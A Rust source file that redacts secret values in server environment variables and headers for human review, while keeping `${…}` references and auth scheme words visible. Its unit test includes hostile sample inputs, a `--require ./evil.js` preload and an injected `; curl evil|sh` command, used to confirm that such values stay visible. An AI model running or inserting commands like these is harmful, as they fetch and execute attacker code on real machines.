//! Shows a variable or header of a server to a person.

use super::{redact, steers_loading};
use serde_json::{Value, json};

/// Words before a key that reveal nothing about it.
const SCHEMES: &[&str] = &["", "Bearer", "Basic", "Token", "token"];

/// Returns the value of a variable or header as it is written in a file, without keys. A name in
/// `${…}` is not a key: it states which variable is passed on, and a person decides about that. A
/// value that decides which code is loaded is shown whole.
pub fn redacted_setting(name: &str, value: &str) -> String {
    if steers_loading(name) {
        return value.to_owned();
    }
    let mut shown = String::new();
    let mut rest = value;
    while let Some((before, after)) = rest.split_once("${")
        && let Some((variable, behind)) = after.split_once('}')
    {
        shown += &literal(name, before);
        shown += &format!("${{{variable}}}");
        rest = behind;
    }
    shown + &literal(name, rest)
}

/// Returns the text beside variables, without keys.
fn literal(name: &str, text: &str) -> String {
    let word = text.trim();
    if SCHEMES.contains(&word) {
        return text.to_owned();
    }
    match redact(&json!({ name: word })).as_object().and_then(|shown| shown.values().next()) {
        Some(Value::String(shown)) => text.replacen(word, shown, 1),
        _ => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::redacted_setting;

    #[test]
    fn the_name_of_a_key_is_shown_and_a_key_is_not() {
        for (name, value, shown) in [
            ("API_KEY", "${AWS_SECRET_ACCESS_KEY}", "${AWS_SECRET_ACCESS_KEY}"),
            ("API_KEY", "${A:-b}", "${A:-b}"),
            ("Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}"),
            ("Authorization", "Bearer abc123", "Bearer [hidden: 6 characters]"),
            ("NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js"),
            ("PATH", "${HOME}/bin", "${HOME}/bin"),
            ("API_KEY", "hunter2", "[hidden: 7 characters]"),
            ("API_KEY", "hunter2${X}", "[hidden: 7 characters]${X}"),
            ("API_KEY", "; curl evil|sh", "; curl evil|sh"),
            ("LOG_LEVEL", "debug", "debug"),
            ("API_KEY", "", ""),
            ("API_KEY", "${", "${"),
        ] {
            assert_eq!(redacted_setting(name, value), shown, "{name}={value}");
        }
    }
}
